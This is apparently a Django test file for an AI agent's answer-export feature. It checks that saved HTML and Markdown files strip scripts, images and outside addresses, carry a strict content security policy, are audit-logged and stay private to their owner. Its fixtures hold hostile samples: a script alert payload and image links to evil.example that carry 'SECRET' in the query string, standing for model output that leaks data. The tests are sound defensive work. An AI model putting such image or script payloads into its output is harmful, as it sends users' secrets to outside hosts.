"""What leaves as a file needs nothing else, tells what was read and what was not, and is put on record."""

import base64
import hashlib
import re
from html.parser import HTMLParser
from uuid import uuid4

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils.html import escape

from agent import conversations, store
from agent.event_log import encode
from agent.events import BlockFinal, Coverage, GroundingCounts, RunEvent, RunFinished, RunStarted, RunWindow
from agent.stored_events import append_events
from agent.types import RunStatus, RunTicket
from audit.models import AuditEvent
from tests.agent.conftest import request_of, start
from tests.broken import table_away

pytestmark = pytest.mark.django_db(databases=["default", "audit", "vault"])

QUESTION = "Where is <b>it</b>?"
ANSWER = (
    '<p>Merged <a class="evidence" data-provider="github" href="https://github.example/1">Fix</a>'
    '<img src="https://evil.example/x.png"><script>alert(1)</script></p>'
)
# What the model wrote, as it is kept.
TEXT = """Merged. <img src="https://evil.example/a.png?d=SECRET"> ![x][b] ![y](https://evil.example/c.png)

[b]: https://evil.example/p?d=SECRET"""
EVENTS: tuple[RunEvent, ...] = (
    RunStarted(question=QUESTION, model="m", is_simulated=True),
    RunWindow(start="", end="", time_zone="UTC", text="Since Fri 20 Nov 09:12"),
    BlockFinal(block=0, html=ANSWER, evidence=()),
)
END = RunFinished(
    elapsed_ms=1500,
    coverage=(Coverage("github", "read", 2, 1), Coverage("slack", "revoked", 0, 0)),
    grounding=GroundingCounts(unknown=1, earlier=1),
    cost_micro_usd=12_345,
)


class Elements(HTMLParser):
    """The elements of a file and the text of its style."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.found if name == tag]


@pytest.fixture
def ticket(alice: User) -> RunTicket:
    """A run of alice that read GitHub, was refused Slack, and answered."""
    return answered(alice)


def answered(user: User) -> RunTicket:
    found = start(request_of(user, text=QUESTION))
    frames = [(found.run, seq, encode(event, run=found.run, seq=seq)) for seq, event in enumerate(EVENTS, start=1)]
    append_events(frames)
    last = (len(frames) + 1, encode(END, run=found.run, seq=len(frames) + 1))
    store.end_run(found.run, status=RunStatus.FINISHED, last=last, answer=TEXT, turns=[])
    return found


@pytest.fixture
def owner(alice: User) -> Client:
    client = Client()
    client.force_login(alice)
    return client


def addresses(ticket: RunTicket) -> tuple[str, ...]:
    chat = f"/chat/{ticket.conversation}/as"
    return (f"/runs/{ticket.run}/as/file/", f"{chat}/html/", f"{chat}/markdown/")


def saved(client: Client, address: str) -> str:
    found = client.get(address)
    assert (found.status_code, found["content-type"]) == (200, "text/html; charset=utf-8")
    assert re.fullmatch(r'attachment; filename="devcontext-[\d-]{10}-[0-9a-f]{8}\.html"', found["content-disposition"])
    return found.content.decode()


@pytest.mark.parametrize("which", [0, 1])
def test_a_file_tells_what_was_asked_answered_read_and_not_read(owner: Client, ticket: RunTicket, which: int) -> None:
    text = saved(owner, addresses(ticket)[which])
    for told in (
        escape(QUESTION),
        "Saved from DevContext on",
        "Since Fri 20 Nov 09:12",
        "GitHub: 2 items",
        "Slack: revoked, not read",
        "Simulated model",
        "<p>Merged <a ",
        "Read 2 items with 1 exchange in 1.5 s for $0.012. 1 item cited as read for an earlier question.",
        "Ignored: 1 invented citation",
    ):
        assert told in text, told


@pytest.mark.parametrize("which", [0, 1])
def test_a_file_needs_and_asks_for_nothing_else(owner: Client, ticket: RunTicket, which: int) -> None:
    """What was read is hostile: no picture, script or address of its own may call home from somebody's disk."""
    page = Elements(text := saved(owner, addresses(ticket)[which]))
    assert not [tag for tag, _ in page.found if tag in {"script", "img", "link", "iframe", "form", "base", "svg"}]
    assert not [name for _, attrs in page.found for name in attrs if name in {"src", "srcset", "style", "onclick"}]
    assert "url(" not in text
    assert "@import" not in text
    assert {(attrs["href"], attrs["rel"]) for attrs in page.named("a")} == {
        ("https://github.example/1", "noopener noreferrer")
    }
    (style,) = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    policies = [attrs["content"] for attrs in page.named("meta") if attrs.get("http-equiv")]
    assert policies == [f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"]


def test_a_markdown_file_asks_for_nothing_else(owner: Client, ticket: RunTicket) -> None:
    text = owner.get(addresses(ticket)[2]).content.decode()
    assert "Merged." in text
    assert "evil" not in text
    assert "SECRET" not in text
    assert "<img" not in text.replace("\\<", "")


def test_a_file_says_that_what_it_shows_is_from_a_sandbox(owner: Client, ticket: RunTicket) -> None:
    assert "local stand-in" in saved(owner, addresses(ticket)[0])


def test_a_chat_that_still_answers_is_saved_as_far_as_it_is(owner: Client, alice: User, ticket: RunTicket) -> None:
    start(request_of(alice, text="And now?", conversation=ticket.conversation))
    text = saved(owner, addresses(ticket)[1])
    assert "This was still being answered." in text
    assert text.count("<article") == 2


def test_each_file_is_on_record(owner: Client, ticket: RunTicket) -> None:
    for address in addresses(ticket):
        assert owner.get(address).status_code == 200
    rows = AuditEvent.objects.filter(event__endswith=":exported").order_by("id")
    assert list(rows.values_list("event", "run", "reason")) == [
        ("agent:answer:exported", str(ticket.run), "html"),
        ("agent:chat:exported", "", "html"),
        ("agent:chat:exported", "", "markdown"),
    ]
    page = owner.get("/audit/").content.decode()
    assert "You saved an answer as a file." in page
    assert "You saved a chat as a file." in page


@pytest.mark.django_db(transaction=True, databases=["default", "audit", "vault"])
def test_what_cannot_be_put_on_record_does_not_leave(owner: Client, ticket: RunTicket) -> None:
    with table_away("audit", table="audit_event"):
        found = [owner.get(address) for address in addresses(ticket)]
    assert [one.status_code for one in found] == [503, 503, 503]
    assert not any("Merged" in one.content.decode() for one in found)


@pytest.mark.parametrize("which", [0, 1, 2])
def test_nobody_elses_is_saved_and_a_stranger_signs_in(ticket: RunTicket, mallory: User, which: int) -> None:
    stranger = Client()
    stranger.force_login(mallory)
    absent = RunTicket(run=uuid4(), conversation=uuid4(), is_new=False)
    refused = stranger.get(addresses(ticket)[which])
    assert refused.status_code == stranger.get(addresses(absent)[which]).status_code == 404
    assert Client().get(addresses(ticket)[which])["location"].startswith("/accounts/login/")
    assert not AuditEvent.objects.filter(event__endswith=":exported").exists()


def test_what_was_deleted_or_does_not_open_is_not_there(owner: Client, alice: User, ticket: RunTicket) -> None:
    other = answered(alice)
    conversations.delete(ticket.conversation, user=alice.pk)
    conversations.load_conversation(other.conversation, user=alice.pk)
    assert {owner.get(address).status_code for address in addresses(ticket)} == {404}
    assert {owner.get(address).status_code for address in addresses(other)} == {200}
